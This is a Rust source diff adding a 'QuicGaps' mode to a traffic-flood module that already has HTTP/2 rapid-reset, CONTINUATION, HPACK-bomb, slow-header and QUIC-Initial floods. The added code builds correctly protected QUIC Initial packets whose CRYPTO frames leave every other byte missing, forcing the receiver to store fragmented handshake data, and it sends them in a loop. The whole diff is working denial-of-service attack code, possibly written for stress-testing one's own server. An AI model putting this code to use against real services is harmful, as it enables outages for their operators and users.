@@ -5,6 +5,10 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::Duration;
 
+use anyhow::Context;
+use rustls::crypto::ring;
+use rustls::quic::{DirectionalKeys, Version};
+use rustls::{Side, Tls13CipherSuite};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::UdpSocket;
 use tokio::task::JoinSet;
@@ -18,6 +22,12 @@ const BAD_TOKENS_PER_SECOND: u32 = 5_000;
 const BURST: u32 = 2;
 /// Of slow heads, each on a connection of its own.
 const SLOW: usize = 300;
+const QUIC_DATAGRAM: usize = 1200;
+/// One byte of a handshake: type, offset in two bytes, length, byte.
+const CRYPTO_FRAME: usize = 5;
+const GAPS_PER_PACKET: u32 = 230;
+/// Up to the last offset that two bytes can name.
+const GAPS_PACKETS: u32 = 35;
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -25,15 +35,17 @@ pub enum Kind {
     BadTokens,
     Continuation,
     HpackBomb,
+    QuicGaps,
     QuicInitials,
     RapidReset,
     SlowHeads,
 }
 
-pub const KINDS: [Kind; 6] = [
+pub const KINDS: [Kind; 7] = [
     Kind::BadTokens,
     Kind::Continuation,
     Kind::HpackBomb,
+    Kind::QuicGaps,
     Kind::QuicInitials,
     Kind::RapidReset,
     Kind::SlowHeads,
@@ -59,7 +71,7 @@ impl Flood {
         let mut running = JoinSet::new();
         let connections = match kind {
             Kind::SlowHeads => SLOW,
-            Kind::QuicInitials => 1,
+            Kind::QuicGaps | Kind::QuicInitials => 1,
             _ => CONNECTIONS,
         };
         for number in 0..connections {
@@ -86,6 +98,7 @@ async fn once(kind: Kind, aim: &Aim, number: usize, sent: &AtomicU64) -> anyhow:
         Kind::BadTokens => bad_tokens(&aim.http1, number, sent).await,
         Kind::Continuation => continuation(&aim.http2, sent).await,
         Kind::HpackBomb => hpack_bomb(&aim.http2, sent).await,
+        Kind::QuicGaps => gaps(aim.tunnel, sent).await,
         Kind::QuicInitials => initials(aim.tunnel, sent).await,
         Kind::RapidReset => rapid_reset(&aim.http2, sent).await,
         Kind::SlowHeads => slow_head(&aim.http1, sent).await,
@@ -193,6 +206,46 @@ async fn initials(to: SocketAddr, sent: &AtomicU64) -> anyhow::Result<()> {
         }
         tokio::time::sleep(Duration::from_millis(10)).await;
     }
+}
+
+/// Handshakes of which every other byte never comes, so that all that comes has to be kept in pieces.
+async fn gaps(to: SocketAddr, sent: &AtomicU64) -> anyhow::Result<()> {
+    let suite = ring::cipher_suite::TLS13_AES_128_GCM_SHA256.tls13().and_then(Tls13CipherSuite::quic_suite);
+    let suite = suite.context("no cipher suite of QUIC's first packets")?;
+    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
+    loop {
+        let connection: [u8; 8] = rand::random();
+        let keys = suite.keys(&connection, Side::Client, Version::V1);
+        for number in 0..GAPS_PACKETS {
+            _ = socket.send_to(&gaps_packet(&keys.local, connection, number)?, to).await;
+            sent.fetch_add(1, Ordering::Relaxed);
+        }
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+}
+
+/// The packet of a number, protected (RFC 9001, 5) with keys that anybody can derive from the connection's id.
+fn gaps_packet(keys: &DirectionalKeys, connection: [u8; 8], number: u32) -> anyhow::Result<Vec<u8>> {
+    // Long header, version 1, two ids of 8 bytes, no token, a length, the number in 4 bytes.
+    let mut header = [&[0xc3, 0, 0, 0, 1, 8][..], &connection, &[8], &[7; 8], &[0]].concat();
+    let number_at = header.len() + 2;
+    let length = QUIC_DATAGRAM - number_at;
+    header.extend_from_slice(&(0x4000 | length as u16).to_be_bytes());
+    header.extend_from_slice(&number.to_be_bytes());
+    let mut payload = Vec::new();
+    while payload.len() + CRYPTO_FRAME <= QUIC_DATAGRAM - header.len() - keys.packet.tag_len() {
+        let offset = 2 * (number * GAPS_PER_PACKET + (payload.len() / CRYPTO_FRAME) as u32) + 1;
+        payload.push(0x06);
+        payload.extend_from_slice(&(0x4000 | offset as u16).to_be_bytes());
+        payload.extend_from_slice(&[1, 0]);
+    }
+    payload.resize(QUIC_DATAGRAM - header.len() - keys.packet.tag_len(), 0);
+    let tag = keys.packet.encrypt_in_place(number.into(), &header, &mut payload)?;
+    let mut packet = [&header, &payload, tag.as_ref()].concat();
+    let (head, rest) = packet.split_at_mut(number_at);
+    let (number, rest) = rest.split_at_mut(4);
+    keys.header.encrypt_in_place(&rest[..keys.header.sample_len()], &mut head[0], number)?;
+    Ok(packet)
 }
 
 fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
